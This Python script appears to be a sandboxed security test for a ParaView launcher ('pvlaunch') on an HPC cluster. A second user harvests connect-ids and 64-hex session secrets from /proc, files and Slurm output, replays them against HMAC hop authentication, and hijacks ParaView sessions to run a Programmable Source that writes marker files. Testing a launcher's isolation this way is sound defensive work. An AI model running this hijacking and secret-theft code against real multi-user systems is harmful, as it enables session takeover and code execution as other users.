#!/usr/bin/python3
"""Another user of the cluster, trying to reach, disturb or hijack the test user's session.

    attack.py [--victim pvtest] [--duration S] [--marker-name pwned]

Run as the second sandbox user (`scripts/sandbox exec --user pvattack HOST ...`) on login, node1
or node2, before the victim's session starts. Until the duration is over (or SIGTERM), as fast
as is reasonable, it:

  reads   every place another user may read: /proc/*/cmdline and /proc/*/environ (what the
          kernel lets it), /proc/net/tcp{,6} and /proc/net/unix, `ss -ltnp` and `ss -lxp`, files
          under ~VICTIM/.cache/pvlaunch, /tmp/pvlaunch.*, ~VICTIM/*.out, and on the login node
          `squeue`/`scontrol show job` and the job's output file; it records connect-ids, ports
          and anything that looks like a session secret (64 hex digits);
  probes  every TCP port the victim listens on (the uid column of /proc/net/tcp), every Unix
          socket of the victim it can see, and every host:port the victim's pvserver is told to
          reach (`--client-host=H --server-port=P` in an argv or a file), as soon as it appears:
          connect-and-close, connect-and-hold (recording what the other side sends; a pvlaunch
          hop greeting is answered with every secret found, and a random one);
  speaks  ParaView: a hostile `pvserver --reverse-connection` towards each of them, once without
          a connect-id and once with each id found, and a pvpython client (a pool kept ready, so
          it wins races) connecting to each with each id; a client that gets in asks the server
          for a Programmable Source that writes /tmp/MARKER-HOST and ~/MARKER-HOST there (~ of
          whoever runs it: only code running as the victim can write the second);
  logs    one JSON object per line on stdout: {"t", "host", "event", ...}. The events that
          mean a hole: "handshake" (a ParaView connection completed, either side), "code_sent"
          (a Programmable Source ran its update), "hop_auth" with "ok": true (a pvlaunch hop
          accepted a key it found), "secret" with "kind": "hex64". The last line is "end" with a
          summary.

The attacker never uses root, never reads anything the kernel does not let a second user read,
and ends every process it started when it ends.
"""

import argparse
import glob
import hashlib
import hmac
import json
import os
import queue
import re
import select
import signal
import socket
import subprocess
import sys
import threading
import time

HOST = socket.gethostname()
T0 = time.monotonic()
LOCK = threading.Lock()
STOP = threading.Event()
COUNTS = {}

HOP_MAGIC = b"PVLHOP1\n"
HOP_NONCE = 32

ID_RES = [
    re.compile(r"--connect-id[= ](\d+)"),
    re.compile(r"connect[-_ ]id[\"']?\s*[:=]\s*[\"']?(\d+)", re.I),
    re.compile(r"PV_CONNECT_ID=(\d+)"),
]
HEX64_RE = re.compile(r"(?<![0-9a-fA-F])([0-9a-fA-F]{64})(?![0-9a-fA-F])")
CLIENT_HOST_RE = re.compile(r"--client-host[= ](\S+)")
SERVER_PORT_RE = re.compile(r"--server-port[= ](\d+)")
ACCEPTING_RE = re.compile(r"Accepting connection\(s\): ([\w.-]+):(\d+)")
HOSTPORT_RE = re.compile(r"\b(login|node1|node2|localhost|127\.0\.0\.1):(\d{2,5})\b")


def log(event, **fields):
    rec = {"t": round(time.monotonic() - T0, 3), "host": HOST, "event": event}
    rec.update(fields)
    line = json.dumps(rec, sort_keys=True)
    with LOCK:
        COUNTS[event] = COUNTS.get(event, 0) + 1
        sys.stdout.write(line + "\n")
        sys.stdout.flush()


class Findings:
    """What the attacker has learned, shared by its threads."""

    def __init__(self):
        self.lock = threading.Lock()
        self.ids = set()
        self.secrets = set()
        self.seen_values = set()

    def note(self, kind, value, source):
        with self.lock:
            key = (kind, value)
            if key in self.seen_values:
                return False
            self.seen_values.add(key)
            if kind == "connect_id":
                self.ids.add(int(value))
            elif kind == "hex64":
                self.secrets.add(value.lower())
        log("secret", kind=kind, value=value, source=source)
        return True

    def connect_ids(self):
        with self.lock:
            return sorted(self.ids)

    def keys(self):
        with self.lock:
            return sorted(self.secrets)


FOUND = Findings()


def scan_text(text, source, attacker):
    """Connect-ids, secrets and targets in a piece of text the attacker could read."""
    for r in ID_RES:
        for m in r.finditer(text):
            if int(m.group(1)) > 0:
                FOUND.note("connect_id", m.group(1), source)
    for m in HEX64_RE.finditer(text):
        FOUND.note("hex64", m.group(1), source)
    for line in text.splitlines():
        ch = CLIENT_HOST_RE.search(line)
        sp = SERVER_PORT_RE.search(line)
        if ch and sp:
            attacker.target("tcp", resolve(ch.group(1)), int(sp.group(1)), "told-to-pvserver:" + source)
        for m in ACCEPTING_RE.finditer(line):
            attacker.target("tcp", resolve(m.group(1)), int(m.group(2)), "pvserver-listens:" + source)
        for m in HOSTPORT_RE.finditer(line):
            port = int(m.group(2))
            if port not in (22, 6817, 6818):
                attacker.target("tcp", resolve(m.group(1)), port, "named:" + source)


def resolve(host):
    if host in ("localhost", "127.0.0.1", HOST):
        return "127.0.0.1"
    try:
        return socket.gethostbyname(host)
    except OSError:
        return host


# --- reading what a second user can read ------------------------------------------------------


def read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None


def proc_uid(pid):
    st = read("/proc/%s/status" % pid)
    if not st:
        return None
    m = re.search(rb"^Uid:\s+(\d+)", st, re.M)
    return int(m.group(1)) if m else None


def tcp_listeners():
    """(address, port, uid, inode) of every listening TCP socket."""
    out = []
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        data = read(name)
        if not data:
            continue
        for row in data.decode().splitlines()[1:]:
            f = row.split()
            if len(f) < 10 or f[3] != "0A":
                continue
            addr, port = f[1].split(":")
            port = int(port, 16)
            if len(addr) == 8:
                ip = socket.inet_ntop(socket.AF_INET, bytes.fromhex(addr)[::-1])
            else:
                raw = bytes.fromhex(addr)
                raw = b"".join(raw[i : i + 4][::-1] for i in range(0, 16, 4))
                ip = socket.inet_ntop(socket.AF_INET6, raw)
            out.append((ip, port, int(f[7]), f[9]))
    return out


def unix_listeners():
    data = read("/proc/net/unix")
    out = []
    if not data:
        return out
    for row in data.decode(errors="replace").splitlines()[1:]:
        f = row.split()
        # Num RefCount Protocol Flags Type St Inode Path; flag 0x10000 = listening
        if len(f) >= 8 and int(f[3], 16) & 0x10000 and f[7].startswith("/"):
            out.append((f[7], f[6]))
    return out


class Scanner:
    def __init__(self, attacker, victim_uid, victim_home):
        self.a = attacker
        self.uid = victim_uid
        self.home = victim_home
        self.procs = {}
        self.files = {}
        self.slow_at = 0.0
        self.lines = set()

    def once(self):
        self.scan_procs()
        self.scan_sockets()
        self.scan_files()
        if time.monotonic() >= self.slow_at:
            self.slow_at = time.monotonic() + 1.0
            self.scan_commands()

    def scan_procs(self):
        # Every time, for every process: a forked child changes its uid (sshd, slurmstepd) and
        # then its argv (exec) after it appeared.
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            uid = proc_uid(pid)
            raw = read("/proc/%s/cmdline" % pid)
            if uid is None or raw is None or not raw:
                continue
            if self.procs.get(pid) == (uid, raw):
                continue
            self.procs[pid] = (uid, raw)
            if uid != self.uid:
                continue
            cmd = raw.replace(b"\0", b" ").decode(errors="replace").strip()
            log("process", pid=int(pid), cmdline=cmd[:2000])
            scan_text(cmd, "cmdline:%s" % pid, self.a)
            env = read("/proc/%s/environ" % pid)
            if env is not None:
                text = env.replace(b"\0", b"\n").decode(errors="replace")
                log("environ_readable", pid=int(pid), size=len(env))
                scan_text(text, "environ:%s" % pid, self.a)
        live = set(p for p in os.listdir("/proc") if p.isdigit())
        for pid in list(self.procs):
            if pid not in live:
                del self.procs[pid]

    def scan_sockets(self):
        for ip, port, uid, inode in tcp_listeners():
            if uid != self.uid:
                continue
            addr = "127.0.0.1" if ip in ("0.0.0.0", "::", "::ffff:0.0.0.0") else ip
            if addr == "::1":
                addr = "::1"
            self.a.target("tcp", addr, port, "listener bound to %s, inode %s" % (ip, inode), inode)
        for path, inode in unix_listeners():
            owner = None
            try:
                owner = os.stat(path).st_uid
            except PermissionError:
                owner = "hidden"
            except OSError:
                continue
            interesting = (
                owner in (self.uid, "hidden")
                or path.startswith("/tmp/pvlaunch")
                or path.startswith(self.home)
            )
            if interesting:
                self.a.target("unix", path, 0, "unix socket owner %s" % owner, inode)

    def scan_files(self):
        paths = []
        for root in [os.path.join(self.home, ".cache", "pvlaunch")] + glob.glob("/tmp/pvlaunch*"):
            for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: self.denied(e)):
                for n in filenames:
                    paths.append(os.path.join(dirpath, n))
        paths += glob.glob(os.path.join(self.home, "*.out")) + glob.glob(os.path.join(self.home, "*.log"))
        for p in paths:
            try:
                st = os.stat(p)
            except OSError:
                continue
            key = (st.st_mtime_ns, st.st_size)
            if self.files.get(p) == key:
                continue
            self.files[p] = key
            data = read(p)
            if data is None:
                if ("denied", p) not in self.lines:
                    self.lines.add(("denied", p))
                    log("file_denied", path=p, mode=oct(st.st_mode & 0o7777))
                continue
            log("file_read", path=p, size=len(data), mode=oct(st.st_mode & 0o7777))
            scan_text(data.decode(errors="replace"), "file:" + p, self.a)

    def denied(self, e):
        p = getattr(e, "filename", "?")
        if ("denied", p) not in self.lines:
            self.lines.add(("denied", p))
            log("dir_denied", path=p, error=str(e.strerror))

    def scan_commands(self):
        cmds = [["ss", "-Hltnp"], ["ss", "-Hlxp"]]
        if HOST == "login":
            cmds += [["squeue", "-h", "-o", "%i %u %T %N %j %o"], ["scontrol", "-o", "show", "job"]]
        for argv in cmds:
            try:
                out = subprocess.run(argv, capture_output=True, text=True, timeout=5).stdout
            except (OSError, subprocess.SubprocessError):
                continue
            for line in out.splitlines():
                if line in self.lines:
                    continue
                self.lines.add(line)
                if argv[0] in ("squeue", "scontrol") or "pvtest" in line or "users:" not in line:
                    log("command_output", command=argv[0], line=line[:2000])
                if argv[0] != "ss":  # ss cannot say whose a socket is: /proc/net/tcp does
                    scan_text(line, argv[0], self.a)
                m = re.search(r"StdOut=(\S+)", line)
                if m and m.group(1) not in self.files:
                    self.files[m.group(1)] = None
                    data = read(m.group(1))
                    if data is not None:
                        log("file_read", path=m.group(1), size=len(data), why="job's StdOut")
                        scan_text(data.decode(errors="replace"), "file:" + m.group(1), self.a)


# --- probes -----------------------------------------------------------------------------------


def open_target(kind, addr, port, timeout=2.0):
    if kind == "unix":
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(timeout)
        s.connect(addr)
        return s
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect((addr, port))
    return s


def where(kind, addr, port):
    return addr if kind == "unix" else "%s:%d" % (addr, port)


def probe_close(kind, addr, port):
    try:
        s = open_target(kind, addr, port)
        s.close()
        return "connected"
    except OSError as e:
        return "error:%s" % (e.strerror or e)


def hop_reply(key_hex, greeting):
    nonce_a = greeting[len(HOP_MAGIC) :]
    nonce_c = os.urandom(HOP_NONCE)
    mac = hmac.new(bytes.fromhex(key_hex), b"pvlaunch hop connector" + nonce_a + nonce_c, hashlib.sha256)
    return HOP_MAGIC + nonce_c + mac.digest(), nonce_a, nonce_c


def try_hop_keys(kind, addr, port):
    """Answer a pvlaunch hop's greeting with every key found and a random one."""
    keys = FOUND.keys() + [os.urandom(32).hex()]
    for key in keys:
        try:
            s = open_target(kind, addr, port, timeout=5)
            greeting = recv_exactly(s, len(HOP_MAGIC) + HOP_NONCE)
            if not greeting.startswith(HOP_MAGIC):
                s.close()
                return
            reply, nonce_a, nonce_c = hop_reply(key, greeting)
            s.sendall(reply)
            proof = recv_exactly(s, 32)
            want = hmac.new(bytes.fromhex(key), b"pvlaunch hop acceptor" + nonce_a + nonce_c, hashlib.sha256).digest()
            ok = len(proof) == 32 and hmac.compare_digest(proof, want)
            log("hop_auth", target=where(kind, addr, port), ok=ok, key=key[:8] + "...", found=key in FOUND.keys())
            s.close()
        except OSError as e:
            log("hop_auth", target=where(kind, addr, port), ok=False, error=str(e))


# What a ParaView process sends first when it connects (vtkSocketCommunicator's handshake); a
# ParaView process that accepts (a listening pvserver, or a client waiting for a reverse
# connection) answers with the same tag.
PARAVIEW_HELLO = bytes.fromhex("3c3c3c3c0100000000")
PARAVIEW_TAG = PARAVIEW_HELLO[:4]


def fingerprint(kind, addr, port):
    """What answers there: "hop" (a pvlaunch hop greets first), "paraview", "closed", "silent"."""
    try:
        s = open_target(kind, addr, port, timeout=2)
    except OSError as e:
        return "error:%s" % (e.strerror or e), b""
    got = b""
    try:
        r, _, _ = select.select([s], [], [], 0.3)
        if r:
            got = s.recv(64)
            if not got:
                return "closed", got
            if got.startswith(HOP_MAGIC[: len(got)]):
                return "hop", got
        s.sendall(PARAVIEW_HELLO)
        end = time.monotonic() + 1.5
        while time.monotonic() < end:
            r, _, _ = select.select([s], [], [], 0.1)
            if r:
                d = s.recv(64)
                if not d:
                    return ("closed" if not got else "other"), got
                got += d
                if got.startswith(PARAVIEW_TAG):
                    return "paraview", got
                if len(got) >= 4:
                    return "other", got
        return "silent", got
    except OSError as e:
        return "error:%s" % (e.strerror or e), got
    finally:
        s.close()


def recv_exactly(s, n):
    buf = b""
    while len(buf) < n:
        d = s.recv(n - len(buf))
        if not d:
            break
        buf += d
    return buf


def probe_hold(kind, addr, port, seconds):
    """Connect and hold; record what the other side sends (nothing, a hop greeting, ParaView)."""
    try:
        s = open_target(kind, addr, port)
    except OSError as e:
        return {"result": "error:%s" % (e.strerror or e)}
    got = b""
    end = time.monotonic() + seconds
    closed_by_peer = False
    while time.monotonic() < end and not STOP.is_set():
        r, _, _ = select.select([s], [], [], 0.2)
        if r:
            try:
                d = s.recv(4096)
            except OSError:
                d = b""
            if not d:
                closed_by_peer = True
                break
            got += d
            if len(got) > 4096:
                break
    s.close()
    return {
        "result": "held",
        "closed_by_peer": closed_by_peer,
        "received": len(got),
        "first_bytes": got[:48].hex(),
        "hop_greeting": got.startswith(HOP_MAGIC),
    }


# --- ParaView: a hostile pvserver, and a pool of ready pvpython clients -----------------------

MARKER_SCRIPT = r"""
import os, socket
name = '%(marker)s-' + socket.gethostname()
for d in ('/tmp', os.path.expanduser('~')):
    try:
        with open(os.path.join(d, name), 'w') as f:
            f.write('written by uid %%d from a Programmable Source sent by %(attacker)s\n' %% os.getuid())
    except OSError:
        pass
"""

CLIENT_WORKER = r"""
import json, os, sys, time
from paraview import servermanager as sm
from paraview.modules.vtkRemotingCore import vtkProcessModule, vtkRemotingCoreConfiguration
if "--eager" in sys.argv:
    import paraview.simple  # 2 s: now rather than between the handshake and the code
# pvpython replaces sys.stdin and sys.stdout: talk over the file descriptors themselves.
requests = open(0, "r", closefd=False)
def print(text, flush=True):
    os.write(1, (text + "\n").encode())
print(json.dumps({"ready": True}))
for line in requests:
    req = json.loads(line)
    vtkRemotingCoreConfiguration.GetInstance().SetConnectID(int(req["id"] or 0))
    session = sm.vtkSMSessionClient()
    ok = bool(session.Connect(req["url"], int(req.get("timeout", 2))))
    res = {"url": req["url"], "id": req["id"], "connected": ok}
    if ok:
        print(json.dumps(dict(res, stage="handshake")))
        try:
            import paraview.simple as simple  # 2 s to import: only once in (the server waits)
            conn = sm.GetConnectionFromId(vtkProcessModule.GetProcessModule().RegisterSession(session))
            sm.SetActiveConnection(conn)
            simple._initializeSession(conn)
            res["ranks"] = conn.GetNumberOfDataPartitions()
            src = simple.ProgrammableSource(Script=req["script"])
            src.UpdatePipeline()
            res["code_sent"] = True
            time.sleep(float(req.get("hold", 3)))
            sm.Disconnect(conn)
        except Exception as e:
            res["error"] = repr(e)
        print(json.dumps(res))
        sys.exit(0)
    print(json.dumps(res))
"""


class ClientPool:
    """pvpython processes started ahead of time: connecting is then a matter of milliseconds."""

    def __init__(self, size, script, eager):
        self.size = size
        self.eager = eager
        self.script = script
        self.jobs = queue.PriorityQueue()
        self.seq = 0
        self.ready = 0
        self.procs = []
        self.plock = threading.Lock()
        for _ in range(size):
            threading.Thread(target=self.worker, daemon=True).start()

    def ready_count(self):
        with self.plock:
            return self.ready

    def submit(self, url, cid, why, prio=0):
        with self.plock:
            self.seq += 1
            self.jobs.put((prio, self.seq, url, cid, why))

    def start_proc(self):
        env = dict(os.environ)
        p = subprocess.Popen(
            ["pvpython", "--force-offscreen-rendering", "-c", CLIENT_WORKER] + (["--eager"] if self.eager else []),
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            bufsize=0,
            env=env,
        )
        p.linebuf = b""
        with self.plock:
            self.procs.append(p)
        return p

    def worker(self):
        p = None
        counted = False
        while not STOP.is_set():
            if p is None or p.poll() is not None:
                p = self.start_proc()
                if not self.readline(p, 60):
                    kill(p)
                    p = None
                    time.sleep(1)
                    continue
                if not counted:
                    counted = True
                    with self.plock:
                        self.ready += 1
            try:
                _, _, url, cid, why = self.jobs.get(timeout=0.2)
            except queue.Empty:
                continue
            req = {"url": url, "id": cid, "timeout": 2, "hold": 3, "script": self.script}
            try:
                p.stdin.write((json.dumps(req) + "\n").encode())
            except OSError:
                kill(p)
                p = None
                continue
            result = None
            deadline = time.monotonic() + 15
            while time.monotonic() < deadline:
                line = self.readline(p, deadline - time.monotonic())
                if not line:
                    break
                try:
                    msg = json.loads(line)
                except ValueError:
                    continue
                if msg.get("stage") == "handshake":
                    log("handshake", role="client", target=url, connect_id=cid, why=why)
                    deadline = time.monotonic() + 30
                    continue
                result = msg
                break
            if result is None:
                log("hostile_client", target=url, connect_id=cid, result="no answer (hung)", why=why)
                kill(p)
                p = None
                continue
            log("hostile_client", target=url, connect_id=cid, why=why, **{k: v for k, v in result.items() if k not in ("url", "id")})
            if result.get("code_sent"):
                log("code_sent", target=url, connect_id=cid)
            if result.get("connected"):
                p.wait(timeout=10)
                p = None

    def readline(self, p, timeout):
        """One line of the worker's output, or None after `timeout` seconds or at its end."""
        end = time.monotonic() + max(0.0, timeout)
        while b"\n" not in p.linebuf:
            left = end - time.monotonic()
            if left <= 0:
                return None
            r, _, _ = select.select([p.stdout], [], [], left)
            if not r:
                return None
            d = os.read(p.stdout.fileno(), 65536)
            if not d:
                return None
            p.linebuf += d
        line, p.linebuf = p.linebuf.split(b"\n", 1)
        return line.decode(errors="replace")

    def stop(self):
        with self.plock:
            for p in self.procs:
                kill(p)


def kill(p):
    if p.poll() is None:
        try:
            p.terminate()
            p.wait(timeout=2)
        except (OSError, subprocess.TimeoutExpired):
            try:
                p.kill()
                p.wait(timeout=2)
            except (OSError, subprocess.TimeoutExpired):
                pass


class HostileServers:
    """`pvserver --reverse-connection` towards a target: it reaches whatever client waits there."""

    def __init__(self, max_running):
        self.sem = threading.Semaphore(max_running)
        self.procs = []
        self.plock = threading.Lock()

    def launch(self, addr, port, cid, why):
        threading.Thread(target=self.run, args=(addr, port, cid, why), daemon=True).start()

    def run(self, addr, port, cid, why):
        with self.sem:
            if STOP.is_set():
                return
            argv = ["pvserver", "--reverse-connection", "--client-host=%s" % addr, "--server-port=%d" % port]
            if cid:
                argv.append("--connect-id=%d" % cid)
            p = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            with self.plock:
                self.procs.append(p)
            out = b""
            connected = False
            end = time.monotonic() + 12
            os.set_blocking(p.stdout.fileno(), False)
            while time.monotonic() < end and not STOP.is_set():
                r, _, _ = select.select([p.stdout], [], [], 0.2)
                if r:
                    d = p.stdout.read() or b""
                    if not d and p.poll() is not None:
                        break
                    out += d
                    if not connected and b"Client connected." in out:
                        connected = True
                        log("handshake", role="server", target="%s:%d" % (addr, port), connect_id=cid, why=why)
                        end = time.monotonic() + 8
                elif p.poll() is not None:
                    break
            kill(p)
            tail = out.decode(errors="replace").strip().splitlines()[-3:]
            log("hostile_server", target="%s:%d" % (addr, port), connect_id=cid, connected=connected, why=why, tail=tail)


# --- the attacker -----------------------------------------------------------------------------


class Attacker:
    def __init__(self, args):
        self.args = args
        self.tlock = threading.Lock()
        self.targets = {}
        script = MARKER_SCRIPT % {"marker": args.marker_name, "attacker": "uid %d" % os.getuid()}
        # A client kept ready (ParaView's Python loaded) for what answers like ParaView or a
        # hop, another for the rest: a silent listener holds a client until it gives up, and
        # must not delay the real thing.
        self.pool = ClientPool(1, script, eager=True)
        self.slow_pool = ClientPool(1, script, eager=False)
        self.servers = HostileServers(3)
        self.bridges = []

    def target(self, kind, addr, port, why, inode=None):
        """A place of the victim's session: attack it once per socket (and again per new id)."""
        if kind == "tcp" and (port <= 0 or port > 65535):
            return
        key = (kind, addr, port)
        with self.tlock:
            t = self.targets.get(key)
            if t is not None and (inode is None or inode in t["inodes"]):
                return
            if t is None:
                self.targets[key] = {"inodes": {inode}, "ids": set()}
            else:
                # the same place with a new socket: a new session there, attack it again
                t["inodes"].add(inode)
                t["ids"].clear()
        log("target", kind=kind, target=where(kind, addr, port), why=why)
        threading.Thread(target=self.attack, args=(kind, addr, port, why), daemon=True).start()

    def attack(self, kind, addr, port, why):
        t = where(kind, addr, port)
        # 0. who answers there
        what, first = fingerprint(kind, addr, port)
        log("fingerprint", target=t, answer=what, first_bytes=first[:48].hex(), why=why)
        with self.tlock:
            for (k, a, p), v in self.targets.items():
                if where(k, a, p) == t:
                    v["answer"] = what
        if what == "hop":
            threading.Thread(target=try_hop_keys, args=(kind, addr, port), daemon=True).start()
        # 1. ParaView, both ways, with no id and every id known now; new ids are tried later.
        # What neither greets nor answers ParaView (MPI's own ports) gets one try without an id.
        # First, because a listening pvserver takes the first client that knows its id.
        if kind == "unix":
            bridge = self.bridge(addr)
            if bridge is not None:
                self.speak("127.0.0.1", bridge, t, why, what)
        else:
            self.speak(addr, port, t, why, what)
        # 2. connect-and-close, a few times
        time.sleep(0.5)
        for i in range(3):
            log("probe", mode="close", target=t, result=probe_close(kind, addr, port))
            time.sleep(0.05)
        # 3. connect-and-hold, a little later (a listening pvserver serves one connection at a
        # time: holding it first would only keep the attack's own clients out)
        later = threading.Timer(4.0, self.hold, args=(kind, addr, port))
        later.daemon = True
        later.start()

    def speak(self, addr, port, t, why, what=None):
        key_ids = self.targets_ids(t)
        if what is None:
            with self.tlock:
                what = next((v.get("answer") for (k, a, p), v in self.targets.items() if where(k, a, p) == t), None)
        eager = what in ("paraview", "hop", "other", "closed")
        ids = [0] + FOUND.connect_ids() if eager else [0]
        host = "[%s]" % addr if ":" in addr else addr
        todo = [cid for cid in ids if cid not in key_ids]
        key_ids.update(todo)
        # the ids found (most likely right) before none
        for cid in sorted(todo, reverse=True):
            (self.pool if eager else self.slow_pool).submit("cs://%s:%d" % (host, port), cid, why)
        for cid in sorted(todo, reverse=True):
            self.servers.launch(addr, port, cid, why)

    def targets_ids(self, t):
        with self.tlock:
            for (kind, addr, port), v in self.targets.items():
                if where(kind, addr, port) == t:
                    return v["ids"]
        return set()

    def hold(self, kind, addr, port):
        res = probe_hold(kind, addr, port, self.args.hold)
        log("probe", mode="hold", target=where(kind, addr, port), **res)
        if res.get("hop_greeting"):
            try_hop_keys(kind, addr, port)

    def bridge(self, path):
        """A loopback TCP port in front of a Unix socket, so ParaView can be pointed at it."""
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect(path)
            s.close()
        except OSError as e:
            log("bridge", target=path, result="cannot connect: %s" % (e.strerror or e))
            return None
        lst = socket.socket()
        lst.bind(("127.0.0.1", 0))
        lst.listen(8)
        lst.settimeout(0.5)
        self.bridges.append(lst)
        port = lst.getsockname()[1]
        log("bridge", target=path, port=port)

        def pump(a, b):
            try:
                while True:
                    d = a.recv(65536)
                    if not d:
                        break
                    b.sendall(d)
            except OSError:
                pass
            for x in (a, b):
                try:
                    x.close()
                except OSError:
                    pass

        def serve():
            while not STOP.is_set():
                try:
                    c, _ = lst.accept()
                except socket.timeout:
                    continue
                except OSError:
                    break
                try:
                    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    u.connect(path)
                except OSError:
                    c.close()
                    continue
                threading.Thread(target=pump, args=(c, u), daemon=True).start()
                threading.Thread(target=pump, args=(u, c), daemon=True).start()
            lst.close()

        threading.Thread(target=serve, daemon=True).start()
        return port

    def retry_with_new_ids(self):
        with self.tlock:
            items = list(self.targets.items())
        ids = FOUND.connect_ids()
        for (kind, addr, port), v in items:
            if v.get("answer") not in ("paraview", "hop", "other", "closed"):
                continue
            if kind == "tcp" and any(i not in v["ids"] for i in ids):
                self.speak(addr, port, where(kind, addr, port), "a new connect-id")

    def run(self):
        import pwd

        victim = pwd.getpwnam(self.args.victim)
        log("start", victim=self.args.victim, victim_uid=victim.pw_uid, uid=os.getuid(), duration=self.args.duration)
        scanner = Scanner(self, victim.pw_uid, victim.pw_dir)
        end = time.monotonic() + self.args.duration
        ready = False
        while time.monotonic() < end and not STOP.is_set():
            if self.args.stop_file and os.path.exists(self.args.stop_file):
                log("stop_file", path=self.args.stop_file)
                break
            if not ready and self.pool.ready_count() >= self.pool.size and self.slow_pool.ready_count() >= 1:
                ready = True
                log("ready", clients=self.pool.size + self.slow_pool.size)
            try:
                scanner.once()
                self.retry_with_new_ids()
            except Exception as e:  # keep attacking whatever one scan hits
                log("scan_error", error=repr(e))
            STOP.wait(self.args.interval)
        STOP.set()
        self.pool.stop()
        self.slow_pool.stop()
        with self.servers.plock:
            for p in self.servers.procs:
                kill(p)
        for b in self.bridges:
            try:
                b.close()
            except OSError:
                pass
        with LOCK:
            counts = dict(COUNTS)
        log(
            "end",
            counts=counts,
            connect_ids=FOUND.connect_ids(),
            secrets=len(FOUND.keys()),
            targets=sorted(where(*k) for k in self.targets),
        )


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--victim", default="pvtest")
    p.add_argument("--duration", type=float, default=120)
    p.add_argument("--interval", type=float, default=0.05, help="seconds between scans")
    p.add_argument("--hold", type=float, default=10, help="seconds a connect-and-hold probe holds")
    p.add_argument("--marker-name", default="pwned")
    p.add_argument("--stop-file", help="end as soon as this file exists")
    args = p.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: STOP.set())
    signal.signal(signal.SIGINT, lambda *_: STOP.set())
    Attacker(args).run()


if __name__ == "__main__":
    main()
